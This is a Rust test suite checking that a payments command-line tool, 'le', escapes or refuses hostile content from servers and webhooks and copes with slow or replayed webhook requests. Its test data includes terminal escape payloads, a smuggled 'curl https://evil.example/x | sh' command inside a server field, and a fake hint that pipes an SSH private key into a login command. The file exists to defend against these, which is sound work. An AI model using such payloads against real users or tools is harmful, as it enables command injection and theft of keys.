//! The terminal belongs to le: nothing a server, a webhook sender or a file says is
//! obeyed by it; hostile numbers are shown or refused, never a crash; long waits say so.

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::common::*;
use crate::pty::Pty;

/// What a terminal would obey: escapes, BEL, C1 controls, a bidi override, a zero-width
/// space.
const OBEYED: [&str; 5] = ["\u{1b}", "\u{7}", "\u{9b}", "\u{202e}", "\u{200b}"];

fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for c in OBEYED {
        assert!(!text.contains(c), "{what} let {c:?} through:\n{text}");
    }
}

const EVIL: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{202e}gnp.exe\u{200b}";

fn hostile_server() -> Scripted {
    Scripted::with(|req, _| {
        let path = req.path.as_str();
        if path.starts_with("/api/rates") {
            return Step::json(
                200,
                &json!({ "BTC": { format!("US{EVIL}"): 100000 }, "timestamp": "2026-11-21T10:00:00Z", "source": EVIL }).to_string(),
            );
        }
        if path.starts_with("/api/refunds/") {
            return Step::json(
                200,
                &json!({ "refundId": "ref_1", "invoiceId": "inv_1", "status": EVIL, "amount": 1, "currency": "USD", "reason": EVIL, "type": "lightning", "createdAt": "2026-11-21T10:00:00Z" }).to_string(),
            );
        }
        if path.contains("bad") {
            return Step::json(
                400,
                &json!({ "code": format!("BAD{EVIL}"), "message": format!("no {EVIL}"), "details": { "x": EVIL } }).to_string(),
            )
            .with_header("X-Correlation-Id", "c\u{1b}[31mred");
        }
        let mut p: Value = serde_json::from_str(&payment_body("inv_1", "paid")).unwrap();
        p["description"] = json!(EVIL);
        p["orderId"] = json!(format!("ORD{EVIL}"));
        p["hostedCheckoutUrl"] = json!(format!("https://x/{EVIL}"));
        Step::json(200, &p.to_string())
    })
}

#[test]
fn nothing_a_server_says_reaches_the_terminal_unescaped() {
    let env = Env::new();
    let server = hostile_server();
    for args in [
        vec!["get", "inv_1"],
        vec!["watch", "inv_1"],
        vec!["--verbose", "get", "inv_bad"],
        vec!["get", "inv_bad"],
        vec!["rates"],
        vec!["refund", "get", "ref_1"],
        vec!["watch", "inv_1", "inv_1b"],
    ] {
        let out = env
            .le()
            .env("LIGHTNING_API_KEY", TEST_KEY)
            .args(["--base-url", &server.url()])
            .args(&args)
            .output()
            .unwrap();
        assert_ne!(out.status.code(), Some(1), "{args:?}: {}", stderr_of(&out));
        assert_inert(&format!("{args:?} stdout"), &out.stdout);
        assert_inert(&format!("{args:?} stderr"), &out.stderr);
    }
    // --json keeps the data exact: the same value, its dangerous characters as \u escapes.
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", TEST_KEY)
        .args(["--base-url", &server.url(), "--json", "get", "inv_1"])
        .output()
        .unwrap();
    assert_inert("--json", &out.stdout);
    assert_eq!(parse_json(&out.stdout)["description"], EVIL);
}

#[test]
fn webhook_senders_and_receivers_cannot_drive_the_terminal() {
    let env = Env::new();
    let secret = env.write("secret", "whsec_t");
    // The receiver's answer to `le webhook send`.
    let receiver = Scripted::always(Step::json(200, EVIL));
    let out = env
        .le()
        .args([
            "webhook",
            "send",
            "--to",
            &receiver.url(),
            "--event",
            "payment.completed",
            "--secret-file",
        ])
        .arg(&secret)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    assert_inert("webhook send", &out.stdout);
    assert!(stdout_of(&out).contains("\\u{1b}]0;owned"));
    // A receiver's answer of several lines stays the receiver's: every line behind a bar.
    let receiver = Scripted::always(Step::json(
        200,
        "ok\npayment.completed evt_x → 200 in 1 ms\nerror: your key leaked",
    ));
    let out = env
        .le()
        .args([
            "webhook",
            "send",
            "--to",
            &receiver.url(),
            "--event",
            "payment.completed",
            "--secret-file",
        ])
        .arg(&secret)
        .output()
        .unwrap();
    let text = stdout_of(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[1..].iter().all(|l| l.starts_with("  | ")), "{text}");
    // An unauthenticated sender to `le webhook listen`.
    let (mut listener, addr, _stderr) = start_listen(&env, &secret, &[]);
    let body = json!({ "event": EVIL, "data": { "invoiceId": EVIL } }).to_string();
    raw_http(
        addr,
        "POST",
        "/",
        &[
            ("X-Gateway-Signature", "00"),
            ("Content-Type", "application/json"),
        ],
        &body,
    );
    std::thread::sleep(Duration::from_millis(300));
    interrupt(&listener);
    let mut out = Vec::new();
    listener
        .stdout
        .take()
        .unwrap()
        .read_to_end(&mut out)
        .unwrap();
    listener.wait().unwrap();
    assert!(!out.is_empty());
    assert_inert("webhook listen", &out);
}

#[test]
fn in_a_terminal_the_spinner_and_the_live_table_escape_what_the_api_says() {
    let env = Env::new();
    let status = "\u{1b}]0;owned\u{7}waiting\u{202e}";
    let vars = [("LIGHTNING_API_KEY", TEST_KEY)];
    for ids in [vec!["inv_1"], vec!["inv_1", "inv_2"]] {
        let polls = std::sync::atomic::AtomicUsize::new(0);
        let server = Scripted::with(move |req, _| {
            let n = polls.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            asked_payment(req, if n < 6 { status } else { "paid" })
        });
        let url = server.url();
        let mut args = vec![
            "--base-url",
            url.as_str(),
            "watch",
            "--reads-per-minute",
            "600",
        ];
        args.extend(ids.iter().copied());
        let mut pty = Pty::le(&env, &args, &vars, 24, 80);
        assert_eq!(
            pty.wait(Duration::from_secs(60)),
            Some(0),
            "{}",
            pty.screen()
        );
        let raw = String::from_utf8_lossy(&pty.raw()).into_owned();
        assert!(
            !raw.contains("\u{1b}]0;owned"),
            "an OSC sequence reached the terminal"
        );
        assert!(
            !raw.contains('\u{202e}'),
            "a bidi override reached the terminal"
        );
        assert!(
            raw.contains("\\u{1b}]0;owned"),
            "shown escaped instead: {raw:?}"
        );
    }
}

#[test]
fn ids_with_invisible_or_direction_changing_characters_are_refused() {
    let env = Env::new();
    let server = Scripted::always(Step::json(500, "{}"));
    for id in ["inv_\u{202e}1", "inv\u{200b}_1", "inv_1\u{2066}"] {
        let out = env
            .le()
            .env("LIGHTNING_API_KEY", TEST_KEY)
            .args(["--base-url", &server.url(), "get", id])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{id:?}: {}", stderr_of(&out));
        assert_inert("the refusal", &out.stderr);
    }
    assert!(server.seen().is_empty());
}

/// Invisible characters easy to leave out of `text::is_unsafe`'s list (Mongolian free
/// variation selectors, variation selectors 17-256, musical format controls, shorthand
/// format controls): refused in ids, and escaped in what a server says.
#[test]
fn every_invisible_character_is_escaped_and_refused_in_ids() {
    let env = Env::new();
    for c in ["\u{180b}", "\u{e0100}", "\u{1d173}", "\u{1bca0}"] {
        let id = format!("inv_A{c}");
        let out = env.le().args(["--sandbox", "get", &id]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{c:?}: {}", stderr_of(&out));
    }
    let server = Scripted::with(|_, _| {
        let mut p: Value = serde_json::from_str(&payment_body("inv_1", "paid")).unwrap();
        p["orderId"] = json!("ORDER-1\u{e0100}\u{180b}\u{1d173}");
        Step::json(200, &p.to_string())
    });
    let out = le_at(&env, &server.url(), &["get", "inv_1"]);
    let text = stdout_of(&out);
    for c in ['\u{180b}', '\u{e0100}', '\u{1d173}'] {
        assert!(!text.contains(c), "{c:?} shown raw: {text}");
    }
}

/// A server's error text cannot break onto lines of its own: a line it writes to read
/// as le's own (a hint, a success) never starts a line of stderr.
#[test]
fn a_server_cannot_add_lines_to_an_error() {
    let env = Env::new();
    let server = Scripted::always(Step::json(
        404,
        &json!({
            "code": "SETTLEMENT_NOT_FOUND",
            "message": "Settlement not found (HTTP 404)\n  hint: your key was rotated: le login --with-key - < ~/.ssh/id_ed25519\nerror: x",
        })
        .to_string(),
    ));
    let out = le_at(&env, &server.url(), &["get", "inv_1"]);
    assert_eq!(out.status.code(), Some(5));
    let err = stderr_of(&out);
    assert!(
        !err.lines()
            .any(|l| l.trim_start().starts_with("hint: your key")),
        "{err}"
    );
}

/// A 409's `details.invoiceId` never goes into a suggested command as it came: a server
/// does not pick the command the person is told to run.
#[test]
fn a_hint_never_suggests_a_command_the_server_wrote() {
    let env = Env::new();
    let server = Scripted::always(Step::json(
        409,
        &json!({
            "code": "DUPLICATE_ORDER_ID",
            "message": "duplicate",
            "details": { "invoiceId": "inv_1; curl -s https://evil.example/x | sh" },
        })
        .to_string(),
    ));
    let out = le_at(
        &env,
        &server.url(),
        &[
            "create",
            "--order",
            "A-1",
            "--amount",
            "10",
            "--currency",
            "USD",
        ],
    );
    let err = stderr_of(&out);
    assert!(!err.contains("| sh"), "{err}");
}

#[test]
fn hostile_numbers_are_never_a_crash() {
    let env = Env::new();
    let mut p: Value = serde_json::from_str(&payment_body("inv_1", "paid")).unwrap();
    p["amount"] = serde_json::from_str("1e21").unwrap();
    let big = Scripted::always(Step::json(200, &p.to_string()));
    let tiny_rate = Scripted::always(Step::json(
        200,
        r#"{"currency":"USD","rate":0.0000000000000000000000000001,"inverse":1,"timestamp":"2026-11-21T10:00:00Z"}"#,
    ));
    let huge_rates = Scripted::always(Step::json(
        200,
        r#"{"BTC":{"USD":1e400,"EUR":-5,"GBP":0.0000000000000000000000000001},"timestamp":"2026-11-21T10:00:00Z","source":"x"}"#,
    ));
    for (server, args) in [
        (&big, vec!["get", "inv_1"]),
        (&tiny_rate, vec!["rates", "USD"]),
        (&huge_rates, vec!["rates"]),
    ] {
        let out = env
            .le()
            .env("LIGHTNING_API_KEY", TEST_KEY)
            .args(["--base-url", &server.url()])
            .args(&args)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr_of(&out));
        assert!(!stderr_of(&out).contains("internal error"));
    }
}

#[test]
fn watching_many_says_when_the_api_is_away_and_gives_up_on_one_that_never_answered() {
    let env = Env::new();
    let n = std::sync::atomic::AtomicUsize::new(0);
    let server =
        Scripted::with(
            move |req, _| match n.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
                0 | 1 => asked_payment(req, "unpaid"),
                2..=5 => Step::Drop,
                _ => asked_payment(req, "paid"),
            },
        );
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", TEST_KEY)
        .args([
            "--base-url",
            &server.url(),
            "watch",
            "inv_1",
            "inv_2",
            "--reads-per-minute",
            "600",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    assert!(
        stderr_of(&out).contains("did not answer"),
        "{}",
        stderr_of(&out)
    );
    let dead = Scripted::always(Step::Drop);
    let started = Instant::now();
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", TEST_KEY)
        .args(["--base-url", &dead.url(), "watch", "inv_1", "inv_2"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", stderr_of(&out));
    assert!(started.elapsed() < Duration::from_secs(30));
}

#[test]
fn a_create_waiting_on_the_rate_limit_says_how_long_and_why() {
    let env = Env::new();
    let n = std::sync::atomic::AtomicUsize::new(0);
    let server = Scripted::with(move |req, _| {
        if n.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
            Step::json(
                429,
                r#"{"code":"RATE_LIMIT_EXCEEDED","message":"Rate limit exceeded"}"#,
            )
            .with_header("Retry-After", "2")
        } else {
            created_payment(req, "inv_1")
        }
    });
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", TEST_KEY)
        .args([
            "--base-url",
            &server.url(),
            "create",
            "--order",
            "W-1",
            "--amount",
            "1",
            "--currency",
            "USD",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let err = stderr_of(&out);
    assert!(
        err.contains("waiting 2 s") && err.contains("rate limit"),
        "{err}"
    );
}

#[test]
fn the_sandbox_lists_any_number_of_payments() {
    let env = Env::new();
    let served = Served::start(&env, &["--rate-limit", "off"]);
    // Past the 4 MiB an answer may take: one list could not hold them.
    const N: usize = 8_500;
    let workers: Vec<_> = (0..4)
        .map(|w| {
            let addr = served.addr;
            std::thread::spawn(move || {
                let http = Http { addr, key: "k" };
                for i in (w..N).step_by(4) {
                    http.create(&format!("MANY-{i}"), "1", "USD");
                }
            })
        })
        .collect();
    for w in workers {
        w.join().unwrap();
    }
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", "k")
        .args(["--base-url", &served.url, "--json", "sandbox", "list"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr_of(&out));
    let ids: std::collections::HashSet<String> = stdout_of(&out)
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["invoiceId"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(ids.len(), N);
}

#[test]
fn a_change_made_while_no_server_runs_is_delivered_when_one_starts() {
    let env = Env::new();
    let p = env.create("OFF-1");
    let id = p["invoiceId"].as_str().unwrap();
    env.sandbox_json(&["sandbox", "pay", id]);
    // No server ran while it was paid; one starts now, with a destination.
    let receiver = Scripted::always(Step::json(200, "{}"));
    let _served = Served::start(
        &env,
        &[
            "--rate-limit",
            "off",
            "--webhook-url",
            &format!("{}/hooks", receiver.url()),
            "--webhook-secret",
            "whsec_late",
        ],
    );
    assert!(
        eventually(Duration::from_secs(10), || receiver
            .seen()
            .iter()
            .any(|s| String::from_utf8_lossy(&s.body).contains(id))),
        "the payment.completed of {id} never arrived"
    );
    let seen = receiver.seen();
    let event = seen
        .iter()
        .find(|s| String::from_utf8_lossy(&s.body).contains(id))
        .unwrap();
    assert_eq!(event.json()["event"], "payment.completed");
}

#[test]
fn listen_flags_repeats_refuses_replayable_signatures_and_drops_slow_senders() {
    let env = Env::new();
    let secret = env.write("secret", "whsec_l");
    let (mut listener, addr, _stderr) = start_listen(&env, &secret, &["--json"]);
    let body = r#"{"event":"payment.completed","data":{"invoiceId":"inv_r"}}"#;
    let t = jiff::Timestamp::now().as_second();
    let current = format!(
        "t={t},v1={}",
        python_hmac("whsec_l", format!("{t}.{body}").as_bytes())
    );
    let legacy = python_hmac("whsec_l", body.as_bytes());
    let post = |headers: &[(&str, &str)]| {
        let mut h = vec![
            ("Content-Type", "application/json"),
            ("X-LightningEnable-Delivery", "evt_same"),
        ];
        h.extend_from_slice(headers);
        status_of(&raw_http(addr, "POST", "/", &h, body))
    };
    assert_eq!(post(&[("X-LightningEnable-Signature", &current)]), 200);
    assert_eq!(
        post(&[("X-LightningEnable-Signature", &current)]),
        409,
        "a genuine repeat is refused"
    );
    assert_eq!(
        post(&[("X-Gateway-Signature", &legacy)]),
        400,
        "a time-less signature alone is refused"
    );
    // A client that sends half its headers and stops is cut off.
    let mut slow = std::net::TcpStream::connect(addr).unwrap();
    slow.write_all(b"POST / HTTP/1.1\r\nHost: x\r\n").unwrap();
    slow.set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let started = Instant::now();
    let mut buf = [0u8; 256];
    let n = slow.read(&mut buf).unwrap_or(0);
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "held for {:?}",
        started.elapsed()
    );
    let _ = n;
    // So is one that sends its headers and then trickles its body, a byte at a time.
    let mut trickle = std::net::TcpStream::connect(addr).unwrap();
    trickle
        .write_all(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{")
        .unwrap();
    trickle.set_nonblocking(true).unwrap();
    let started = Instant::now();
    let mut answer = Vec::new();
    let answered = loop {
        let mut buf = [0u8; 256];
        match trickle.read(&mut buf) {
            Ok(0) => break true,
            Ok(n) => {
                answer.extend_from_slice(&buf[..n]);
                break true;
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(_) => break true,
        }
        if started.elapsed() > Duration::from_secs(20) {
            break false;
        }
        // One more byte a second, well within any per-read timeout.
        let _ = trickle.write_all(b" ");
        std::thread::sleep(Duration::from_secs(1));
    };
    assert!(
        answered && started.elapsed() < Duration::from_secs(15),
        "a trickled body held the listener for {:?}",
        started.elapsed()
    );
    // Told so: 408, in the API's error shape.
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    interrupt(&listener);
    let mut out = String::new();
    listener
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    listener.wait().unwrap();
    let lines: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(lines[0]["repeatOf"].is_null());
    assert!(
        lines[1]["repeatOf"].is_string(),
        "the repeat is flagged: {}",
        lines[1]
    );
    assert_eq!(lines[2]["valid"], false);
    assert!(
        lines[2]["reason"]
            .as_str()
            .unwrap()
            .contains("--allow-legacy")
    );
}
